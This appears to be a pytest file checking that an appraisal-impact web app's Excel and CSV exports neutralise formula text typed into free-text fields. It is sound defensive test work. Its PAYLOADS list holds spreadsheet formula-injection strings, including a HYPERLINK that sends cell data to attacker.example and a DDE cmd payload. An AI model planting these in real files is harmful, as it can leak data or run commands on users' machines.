"""Formula injection: formula text typed into every free-text field (names, sources, notes) never becomes a
formula in any file the app produces (the demand-and-capacity return, summaries as Excel and CSV, import
templates). Every writer goes through `exports.safe_writer`."""

from __future__ import annotations

import csv
import io
import itertools
import re
import zipfile

import openpyxl
import pytest
from sqlmodel import select

from appraisal_impact.exports import safe_writer
from appraisal_impact.impact_service import clear_cache
from appraisal_impact.models import (
    Appraisal,
    AppraisalRegimen,
    Drug,
    DrugPack,
    FigureSource,
    FunnelStep,
    HrgCost,
    Icb,
    ReferenceValue,
    Regimen,
    Trust,
    UptakeYear,
    User,
)
from tests.editing_support import people, signed_in  # noqa: F401

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"Click for the full figures")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "2+3",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r", "\n")

# every free-text column a person can type that may reach a file
FREE_TEXT = {
    Appraisal: ("title", "medicine", "indication", "source", "tumour_site"),
    Regimen: ("name", "indication", "source"),
    Drug: ("name",),
    DrugPack: ("description", "price_source"),
    FunnelStep: ("name", "source"),
    UptakeYear: ("source",),
    AppraisalRegimen: ("source",),
    FigureSource: ("source",),
    ReferenceValue: ("label", "source", "unit"),
    HrgCost: ("description", "source"),
    Trust: ("name", "notes"),
    Icb: ("name", "population_source"),
    User: ("name",),
}


@pytest.fixture
def poisoned(db, people):
    """Every free-text field of the seeded data replaced by formula text (made unique where it must be)."""
    payloads = itertools.cycle(PAYLOADS)
    for model, columns in FREE_TEXT.items():
        for row in db.exec(select(model)).all():
            for column in columns:
                # keep names unique, and tumour sites shared (shares are by tumour site)
                text = next(payloads)
                value = text if column == "tumour_site" else f"{text} {row.id}"
                setattr(row, column, value)
            db.add(row)
    db.commit()
    clear_cache()
    return db


def _check_xlsx(content: bytes, where: str) -> list[str]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        if name.startswith("xl/worksheets/") and name.endswith(".xml"):
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<f[ >]", xml), f"{where}: a formula in {name}"
    texts = []
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where}: formula in {sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_START), f"{where}: {sheet.title}!{cell.coordinate} = {cell.value!r}"
                    texts.append(cell.value)
    return texts


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
    except ValueError:
        return False
    return True


def _check_csv(content: bytes, where: str) -> list[str]:
    texts = []
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
        for field in row:
            if _is_number(field):
                continue  # a number is written as a number: it cannot hold a formula
            assert not field.startswith(DANGEROUS_START), f"{where}: {field!r}"
            texts.append(field)
    return texts


def test_formula_text_in_every_free_text_field_is_inert_in_every_file(app, poisoned, people):
    client = signed_in(app, people["lead"])
    files: dict[str, bytes] = {}
    files["/dashboard/return.xlsx"] = client.get("/dashboard/return.xlsx").data
    for icb in poisoned.exec(select(Icb)).all():
        for kind in ("xlsx", "csv"):
            files[f"/summaries/icbs/{icb.ods_code}/summary.{kind}"] = client.get(f"/summaries/icbs/{icb.ods_code}/summary.{kind}").data
    for appraisal in poisoned.exec(select(Appraisal)).all():
        for kind in ("xlsx", "csv"):
            url = f"/summaries/appraisals/{appraisal.id}/summary.{kind}"
            response = client.get(url)
            assert response.status_code == 200, url
            files[url] = response.data
    for kind in ("regimens", "prices"):
        for fmt in ("xlsx", "csv"):
            files[f"/imports/template/{kind}.{fmt}"] = client.get(f"/imports/template/{kind}.{fmt}").data

    written: list[str] = []
    for url, content in files.items():
        texts = _check_xlsx(content, url) if url.endswith("xlsx") else _check_csv(content, url)
        written += texts
    # the formula text did reach the files, as inert text
    everything = "\n".join(written)
    assert "'=HYPERLINK(" in everything and "'@SUM(A1:A9)" in everything and "'+1 " in everything
    assert "'-1 " in everything and "'\t=1+1" in everything
    assert re.search(r"(^|\n)2\+3 \d+", everything)  # not a formula, and not changed either


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_safe_writer_keeps_text_text(text):
    buffer = io.BytesIO()
    book = safe_writer.workbook(buffer)
    sheet = book.add_worksheet("Test")
    sheet.write(0, 0, text)
    sheet.write_string(1, 0, text)
    sheet.write_row(2, 0, [text, -1.5])
    book.close()
    cells = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert cells["A1"].data_type == "s" and cells["A2"].data_type == "s" and cells["A3"].data_type == "s"
    expected = text if text == "2+3" else "'" + text
    in_xlsx = expected.replace("\r", "_x000D_")  # how the xlsx format stores a carriage return
    assert cells["A1"].value == cells["A2"].value == cells["A3"].value == in_xlsx
    assert cells["B3"].value == -1.5  # numbers stay numbers
    with pytest.raises(TypeError):
        safe_writer.workbook(io.BytesIO()).add_worksheet().write_formula(0, 0, "=1+1")

    out = io.StringIO()
    safe_writer.csv_writer(out).writerow([text, -1])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [expected, "-1"]
